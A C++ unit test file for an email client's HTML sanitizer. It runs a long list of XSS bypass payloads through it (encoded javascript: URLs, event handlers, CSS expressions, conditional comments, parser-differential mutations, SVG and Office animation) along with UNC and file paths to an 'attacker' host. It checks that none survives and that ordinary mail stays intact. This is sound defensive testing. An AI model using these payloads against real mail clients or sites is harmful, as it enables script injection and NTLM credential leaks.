// The whole static page through the real HTML engine of this platform (gumbo): the
// documented results, every bypass class of the old neutralising in several encodings, the
// bodies of ordinary mail coming through whole, and a deeply nested body on a small stack.
#include <gtest/gtest.h>
#include <pthread.h>

#include <algorithm>
#include <string>
#include <utility>
#include <vector>

#include "base/text.h"
#include "display/embedded_content.h"
#include "host/html.h"
#include "page/html_sanitizer.h"
#include "page_checker.h"
#include "support/test_host.h"

namespace tp {
namespace {

constexpr wchar_t kCopies[] = L"C:/Users/ann/AppData/Local/Temp/Tidepost/outlook_temp/";

class StaticPageTest : public testing::SimHostTest {
 protected:
  StaticPageTest() : m_heads(LoadPageHeads()) {}

  std::wstring Page(const std::wstring& html, RemoteContent remote = RemoteContent::kAllowed) {
    std::wstring page;
    EXPECT_EQ(HtmlSanitizer(m_heads, UrlPolicy(kCopies, remote)).SanitizeHtml(html, &page),
              hr::kOk);
    return page;
  }
  std::wstring Body(const std::wstring& html) {
    const std::wstring page = Page(html);
    return page.substr(page.find(L"</head>") + 7);
  }
  // The engine's own serialization of the body, for markup that nothing needs to change.
  static std::wstring Reserialized(const std::wstring& html) {
    std::unique_ptr<host::HtmlDocument> document = host::html().CreateDocument();
    EXPECT_EQ(document->Write(html), hr::kOk);
    return document->BodyOuterHtml().value_or(L"") + L"</html>";
  }
  static std::vector<std::string> Active(
      const std::wstring& page, testing::PageSender sender = testing::PageSender::kBranded) {
    return testing::ActiveContentIn(WideToUtf8(page), sender);
  }

  const PageHeads m_heads;
};

TEST_F(StaticPageTest, DocumentedResults) {
  EXPECT_EQ(Body(L"<p>a<SCRIPT>alert(1)</SCRIPT>b<script>c</script></p>"),
            L"<body><p>ab</p></body></html>");
  const std::wstring moved = Page(L"<style>p{color:red}</style><p>x</p>");
  EXPECT_NE(moved.find(L"<style>p{color:red}</style>" + std::wstring(kLayoutStyle) + L"</head>"),
            std::wstring::npos);
  EXPECT_EQ(Page(L"<style type=\"text/css\">p{}</style>").find(L"p{}"), std::wstring::npos);
  EXPECT_EQ(Body(L"<a href=\"JavaScript:go()\">x</a>"),
            L"<body><a href=\"JxavaScript:go()\">x</a></body></html>");
  EXPECT_EQ(Body(L"<input type=text>"), L"<body><xinput type=\"text\"></xinput></body></html>");
  EXPECT_EQ(Body(L"<div onclick=\"f()\">a</div><div onClick=f()>b</div>"),
            L"<body><div ap_denied=\"f()\">a</div><div ap_denied=\"f()\">b</div></body></html>");
  const std::wstring word2007 =
      L"<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><head><meta name=Generator "
      L"content=\"Microsoft Word 12 (filtered medium)\"><style><!-- p{margin:0} --></style>"
      L"</head><body><p>Hi</p></body></html>";
  const std::wstring page2007 = Page(word2007);
  EXPECT_EQ(page2007.substr(0, page2007.find(L"</head>")),
            m_heads.word2007.substr(0, m_heads.word2007.find(L"</head>")) +
                L"<style><!-- p{margin:0} --></style>" + kLayoutStyle);
  // Without a danger pattern the body is still the engine's writing of it.
  EXPECT_EQ(Body(L"<P CLASS=x>a<BR>b"), L"<body><p class=\"x\">a<br>b</p></body></html>");
}

TEST_F(StaticPageTest, NoBypassClassRunsScriptOrRedirectsThePage) {
  const wchar_t* const hostile[] = {
      // Script URLs the raw-text patterns miss: references, white space, HTML5 names.
      L"<a href=\"&#106;avascript:alert(1)\">a</a>",
      L"<a href=\"&#x6a;&#x61;vascript:alert(1)\">a</a>",
      L"<a href=\"java&#9;script:alert(1)\">a</a>",
      L"<a href=\"java&#10;script:alert(1)\">a</a>",
      L"<a href=\"javascript&colon;alert(1)\">a</a>",
      L"<a href=\"java&Tab;script&colon;alert(1)\">a</a>",
      L"<a href=\" &#1; javascript:alert(1)\">a</a>",
      L"<a href=\"vb&#115;cript:msgbox(1)\">a</a>",
      L"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>",
      // Event attributes the expression misses.
      L"<img src=x/onerror=alert(1)><img/src=\"x\"/onerror=\"alert(1)\">",
      L"<svg/onload=alert(1)><body/onload=alert(1)>",
      L"<img src=x onerror\n=alert(1)><img src=x onerror = alert(1)>",
      // URL attributes other than href.
      L"<button formaction=\"javascript:alert(1)\">b</button>",
      L"<table background=\"javascript:alert(1)\"><tr><td background=\"vbs:x\">t</td></tr></table>",
      L"<video poster=\"javascript:alert(1)\"></video><img lowsrc=\"javascript:x\" "
      L"dynsrc=\"javascript:y\">",
      L"<svg><a xlink:href=\"&#106;avascript:alert(1)\"><text>t</text></a></svg>",
      L"<math><maction actiontype=statusline xlink:href=\"javascript:alert(1)\">m</maction></math>",
      L"<isindex action=\"javascript:alert(1)\"><blockquote cite=\"javascript:x\">q</blockquote>",
      // Styles that run script in old engines.
      L"<div style=\"width:expression(alert(1))\">s</div>",
      L"<div style=\"width:expr/**/ession(alert(1))\">s</div>",
      L"<div style=\"width:exp\\ression(alert(1))\">s</div>",
      L"<div "
      L"style=\"xss:\uFF45\uFF58\uFF50\uFF52\uFF45\uFF53\uFF53\uFF49\uFF4F\uFF4E(alert(1))\">s</"
      L"div>",
      L"<div style=\"behavior:url(x.htc)\">s</div><div style=\"-moz-binding:url(x.xml#x)\">s</div>",
      L"<div style=\"background:url(&#106;avascript:alert(1))\">s</div>",
      L"<STYLE>@import 'http://attacker.example/x.css';</STYLE>",
      L"<style>p{width:expression(alert(1))}</style>",
      L"<style>li{list-style-image:\\75 rl(javascript:alert(1))}</style>",
      // A base element in the body, data islands and binding, and objects.
      L"<base href=\"http://attacker.example/\"><a href=\"x\">relative</a>",
      L"<xml id=x><a><![CDATA[<img src=x onerror=alert(1)>]]></a></xml>"
      L"<span datasrc=#x datafld=a dataformatas=html></span>",
      L"<obj\u0000ect data=x>o</object><embed src=x.swf><applet code=x>a</applet>",
      // Conditional comments whose content an old engine runs.
      L"<!--[if IE]><img src=x onerror=alert(1)><a href=\"javascript:x\">a</a><![endif]-->",
      L"<!--[if gte IE 5]><iframe src=\"javascript:alert(1)\"></iframe><![endif]-->",
      L"<!--[if true]><!--><img src=x onerror=alert(1)><!--<![endif]-->",
      L"<![if IE]><img src=x onerror=alert(1)><![endif]>",
      // Parser differentials: foreign content, raw text, unusual closings.
      L"<svg><style><img src=x onerror=alert(1)></style></svg>",
      L"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      L"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
      // The raw-text cuts join a style element inside an element that a browser running
      // script reads differently.
      L"<noscript><sty<script></script>le>/*</noscript><img src=\"x\"onerror=alert(1)>*/"
      L"</sty<script></script>le></noscript>",
      L"<select><template><sty<script></script>le>/*<select><img src=\"x\"onerror=alert(1)>*/"
      L"</sty<script></script>le></template></select>",
      L"<xmp></xmp><img src=x onerror=alert(1)></xmp>",
      L"<title><img src=x onerror=alert(1)></title><textarea></textarea><img src=x "
      L"onerror=alert(1)></textarea>",
      L"<a href=\"http://ok.example/\"<img src=x onerror=alert(1)>x</a>",
      L"<!-- --!><img src=x onerror=alert(1)> -->",
      L"<div id=\"x\" `onclick=alert(1)` title=\"`\">d</div>",
  };
  for (const wchar_t* html : hostile) {
    const std::wstring page = Page(html);
    EXPECT_EQ(Active(page), std::vector<std::string>())
        << "input: " << WideToUtf8(html) << "\npage: " << WideToUtf8(page);
  }
}

TEST_F(StaticPageTest, OrdinaryMailComesThroughWhole) {
  const wchar_t* const newsletter =
      L"<html><head><title>Deals</title></head><body style=\"margin:0;background:#f4f4f4\">"
      L"<table role=presentation width=\"100%\" cellpadding=0 cellspacing=0 border=0>"
      L"<tr><td align=center><table width=600 style=\"background-color:#ffffff\">"
      L"<tr><td style=\"padding:20px;font-family:Arial,sans-serif\"><h1>Summer sale</h1>"
      L"<p>Save <b>40%</b> on flights &amp; hotels &mdash; this week only.&nbsp;</p>"
      L"<a href=\"https://deals.example/track?u=1&amp;c=2\" style=\"color:#0066cc\">Offers</a>"
      L"</td></tr><tr><td><table><tr><td width=\"50%\"><img src=\"https://img.example/a.jpg\" "
      L"alt=\"Paris &amp; Rome\" width=260 style=\"display:block;border:0\"></td>"
      L"<td><a href=\"mailto:help@deals.example?subject=Question\">Contact</a><br>"
      L"<span style=\"font-size:11px;color:#999\">Unsubscribe: <a href=\"https://deals.example/u\">"
      L"here</a></span></td></tr></table></td></tr></table></td></tr></table></body></html>";
  const wchar_t* const receipt =
      L"<div dir=ltr><p>Thank you for your order #12345.</p><table border=1 "
      L"style=\"border-collapse:collapse\"><thead><tr><th>Item</th><th>Qty</th><th>Price</th>"
      L"</tr></thead><tbody><tr><td>Walking boots (size 42)</td><td>1</td><td>&euro;89.00</td>"
      L"</tr><tr><td colspan=2>Total</td><td><strong>&euro;89.00</strong></td></tr></tbody>"
      L"</table><p>Questions? Call <a href=\"tel:+441234567890\">+44 1234 567890</a>.</p>"
      L"<img src=\"cid:logo@shop.example\" alt=\"Shop\" width=120></div>";
  for (const wchar_t* html : {newsletter, receipt}) {
    const std::wstring page = Page(html);
    EXPECT_EQ(page.substr(page.find(L"</head>") + 7), Reserialized(html)) << WideToUtf8(html);
    EXPECT_TRUE(Active(page).empty());
  }
}

TEST_F(StaticPageTest, AWordBodyKeepsItsTextImagesAndFallbacks) {
  std::wstring word =
      L"<html xmlns:v=\"urn:schemas-microsoft-com:vml\" "
      L"xmlns:o=\"urn:schemas-microsoft-com:office:office\" "
      L"xmlns=\"http://www.w3.org/TR/REC-html40\"><head><meta name=Generator "
      L"content=\"Microsoft Word 14 (filtered medium)\"><!--[if !mso]><style>v\\:* "
      L"{behavior:url(#default#VML);}</style><![endif]--><style><!-- p.MsoNormal{margin:0in;"
      L"font-size:11.0pt;font-family:\"Calibri\",\"sans-serif\";} --></style><!--[if gte mso 9]>"
      L"<xml><o:shapedefaults v:ext=\"edit\" spidmax=\"1026\" /></xml><![endif]--></head>"
      L"<body lang=EN-US link=blue vlink=purple><div class=WordSection1><p class=MsoNormal>"
      L"Dear Ann,<o:p></o:p></p><p class=MsoNormal><!--[if gte vml 1]><v:shape id=\"P1\" "
      L"style='width:96pt;height:48pt'><v:imagedata src=\"cid:image001.png@01D0\" "
      L"o:title=\"\"/></v:shape><![endif]--><![if !vml]><img width=128 height=64 "
      L"src=\"cid:image001.png@01D0\" v:shapes=\"P1\"><![endif]><o:p></o:p></p>"
      L"<p class=MsoNormal><span style='color:#1F497D'>Best regards</span></p></div></body></html>";
  ContentMap copies{{L"image001.png@01D0",
                     L"C:\\Users\\ann\\AppData\\Local\\Temp\\Tidepost\\"
                     L"outlook_temp\\1_5\\2_image001.png"}};
  FixupHtml(&word, copies);
  const std::wstring page = Page(word);
  EXPECT_TRUE(Active(page).empty());
  EXPECT_EQ(page.substr(0, 20), m_heads.word2010.substr(0, 20));
  const std::wstring body = page.substr(page.find(L"</head>"));
  for (const wchar_t* kept :
       {L"<body lang=\"EN-US\" link=\"blue\" vlink=\"purple\">", L"Dear Ann,<o:p></o:p>",
        L"<img width=\"128\" height=\"64\" src=\"C:/Users/ann/AppData/Local/Temp/Tidepost/"
        L"outlook_temp/1_5/2_image001.png\" v:shapes=\"P1\">",
        L"<span style=\"color:#1F497D\">Best regards</span>"}) {
    EXPECT_NE(body.find(kept), std::wstring::npos) << WideToUtf8(kept);
  }
  EXPECT_EQ(body.find(L"v:shape id"), std::wstring::npos);  // the VML branch is off
  EXPECT_NE(page.find(L"p.MsoNormal{margin:0in;"), std::wstring::npos);
}

TEST_F(StaticPageTest, NoAnimationNetworkPathOrFilterSurvivesInEitherPage) {
  const wchar_t* const hostile[] = {
      L"<svg><set attributeName=href to=\"javascript:alert(1)\"/><a href=#x>a</a></svg>",
      L"<svg><animate attributeName=href values=\"#;&#106;avascript:alert(1)\"/><a>a</a></svg>",
      L"<html xmlns:t=\"urn:schemas-microsoft-com:time\"><?import namespace=t "
      L"implementation=\"#default#time2\"><t:set attributeName=innerHTML targetElement=x "
      L"to=\"&lt;img src=x onerror=alert(1)&gt;\"/><div id=x class=time t:dur=1>x</div>",
      L"<!--[if IE]><T:ANIMATE attributeName=innerHTML values=\"a;&lt;b&gt;\"/><![endif]-->",
      L"<x:par><x:img src=\"https://t.example/a.gif\"/><x:audio src=\"x.wav\"/></x:par>",
      L"<img src=\"\\\\attacker\\share\\x.png\"><img src=\"//attacker/share/x.png\">",
      L"<img src=\"file://attacker/share/x.png\"><td background=\"FILE:////attacker/x\">",
      L"<img srcset=\"a.png 1x, //attacker/x.png 2x\"><a href=\"file:&#x2F;/attacker/x\">a</a>",
      L"<div style=\"-ms-filter:'progid:DXImageTransform.Microsoft.AlphaImageLoader("
      L"src=&quot;file://attacker/x.png&quot;)'\">s</div>",
      L"<div "
      L"style=\"filter:prog/**/id:DXImageTransform.Microsoft.AlphaImageLoader(src=x)\">s</div>",
      L"<style>p{-ms-filter:\"progid:DXImageTransform.Microsoft.AlphaImageLoader(src="
      L"'\\\\attacker\\x.png')\"}</style>",
      L"<div style=\"background:url(&#x2F;/attacker/x.png)\">s</div>",
      L"<v:imagedata src=\"\\\\attacker\\x.png\" o:href=\"//attacker/y.png\"/>",
  };
  for (const wchar_t* html : hostile) {
    for (const auto& [remote, sender] :
         {std::pair(RemoteContent::kAllowed, testing::PageSender::kBranded),
          std::pair(RemoteContent::kBlocked, testing::PageSender::kNotBranded)}) {
      const std::wstring page = Page(html, remote);
      EXPECT_EQ(Active(page, sender), std::vector<std::string>())
          << "input: " << WideToUtf8(html) << "\npage: " << WideToUtf8(page);
    }
  }
}

TEST_F(StaticPageTest, AnUnbrandedSendersPageLoadsNothingRemoteAndKeepsItsWordsLinksAndImages) {
  std::wstring html =
      L"<html><head><link rel=stylesheet href=\"https://t.example/a.css\"><style>@import "
      L"url(https://t.example/b.css); p{color:#333}</style><style>h1{color:#036}</style></head>"
      L"<body background=\"https://t.example/bg.png\"><table style=\"background-image:"
      L"url(https://t.example/t.png);width:600px\"><tr><td background=\"//t.example/td.png\">"
      L"<h1>Spring sale</h1><img src=\"https://t.example/open.gif?u=42\" width=1 height=1>"
      L"<img src=\"cid:logo@shop\" alt=\"Shop logo\"><img srcset=\"https://t.example/h.png 2x\" "
      L"alt=\"Hero\"><p>Everything half price.</p><a href=\"https://shop.example/sale\">See the "
      L"sale</a></td></tr></table></body></html>";
  FixupHtml(&html, {{L"logo@shop",
                     L"C:\\Users\\ann\\AppData\\Local\\Temp\\Tidepost\\"
                     L"outlook_temp\\1_5\\2_logo.png"}});
  const std::wstring page = Page(html, RemoteContent::kBlocked);
  EXPECT_EQ(Active(page, testing::PageSender::kNotBranded), std::vector<std::string>());
  EXPECT_EQ(page.find(L"t.example"), std::wstring::npos) << WideToUtf8(page);
  for (const wchar_t* kept :
       {L"<style>h1{color:#036}</style>", L"<h1>Spring sale</h1>",
        L"<img src=\"C:/Users/ann/AppData/Local/Temp/Tidepost/outlook_temp/1_5/2_logo.png\" "
        L"alt=\"Shop logo\">",
        L"<img alt=\"Hero\">", L"<p>Everything half price.</p>",
        L"<a href=\"https://shop.example/sale\">See the sale</a>", L"style=\"width:600px\""}) {
    EXPECT_NE(page.find(kept), std::wstring::npos) << WideToUtf8(kept);
  }
  // A branded sender's page keeps them (the sheets it may hold carry no url(), as before).
  const std::wstring branded = Page(html, RemoteContent::kAllowed);
  EXPECT_EQ(Active(branded, testing::PageSender::kBranded), std::vector<std::string>());
  for (const wchar_t* kept :
       {L"<body background=\"https://t.example/bg.png\">", L"url(https://t.example/t.png)",
        L"<img src=\"https://t.example/open.gif?u=42\"",
        L"srcset=\"https://t.example/h.png 2x\""}) {
    EXPECT_NE(branded.find(kept), std::wstring::npos) << WideToUtf8(kept);
  }
  // The protocol-relative background is another host's share where the page has a file base.
  EXPECT_EQ(branded.find(L"//t.example/td.png"), std::wstring::npos);
}

TEST_F(StaticPageTest, TheCheckerFindsWhatThePageMayNotHold) {
  const std::string page =
      "<html><head><base href=\"http://www.tidepost.com/\"></head><body>"
      "<t:set attributeName=innerHTML></t:set><img src=\"\\\\host\\s\\x.png\">"
      "<div style=\"-ms-filter:'progid:x'\"></div><img src=\"https://t.example/x.gif\">"
      "<div data-x=\"https://t.example/y\"></div><a href=\"https://ok.example/\">ok</a>"
      "<style>p{background:url(https://t.example/z.png)}</style></body></html>";
  const std::vector<std::string> branded =
      testing::ActiveContentIn(page, testing::PageSender::kBranded);
  const std::vector<std::string> notBranded =
      testing::ActiveContentIn(page, testing::PageSender::kNotBranded);
  auto count = [](const std::vector<std::string>& found, const std::string& prefix) {
    return std::count_if(found.begin(), found.end(),
                         [&](const std::string& line) { return line.rfind(prefix, 0) == 0; });
  };
  EXPECT_EQ(count(branded, "animation element t:set"), 1);
  EXPECT_EQ(count(branded, "timing attribute attributename"), 1);
  EXPECT_EQ(count(branded, "network path "), 2);
  EXPECT_EQ(count(branded, "remote"), 0);
  EXPECT_EQ(count(notBranded, "remote src=https://t.example/x.gif"), 1);
  EXPECT_EQ(count(notBranded, "remote data-x="), 1);
  EXPECT_EQ(count(notBranded, "remote content in a style sheet"), 1);
}

// A body nested far deeper than any mail, built on a thread with Outlook's 1 MiB stack.
void* BuildDeepPage(void* result) {
  constexpr int kDepth = 20000;
  std::wstring html;
  for (int i = 0; i < kDepth; ++i)
    html += (i % 3 == 0) ? L"<div>" : (i % 3 == 1) ? L"<span title=a>" : L"<b>";
  html += L"deep";
  std::wstring page;
  const PageHeads heads;
  (void)HtmlSanitizer(heads, UrlPolicy{}).SanitizeHtml(html, &page);
  *static_cast<std::wstring*>(result) = std::move(page);
  return nullptr;
}

TEST_F(StaticPageTest, ADeeplyNestedBodyNeedsLittleStack) {
  std::wstring page;
  pthread_attr_t attributes;
  ASSERT_EQ(pthread_attr_init(&attributes), 0);
  ASSERT_EQ(pthread_attr_setstacksize(&attributes, 1 << 20), 0);
  pthread_t thread;
  ASSERT_EQ(pthread_create(&thread, &attributes, &BuildDeepPage, &page), 0);
  ASSERT_EQ(pthread_join(thread, nullptr), 0);
  pthread_attr_destroy(&attributes);
  EXPECT_NE(page.find(L"deep"), std::wstring::npos);
  EXPECT_GE(std::count(page.begin(), page.end(), L'<'), 40000);
}

}  // namespace
}  // namespace tp
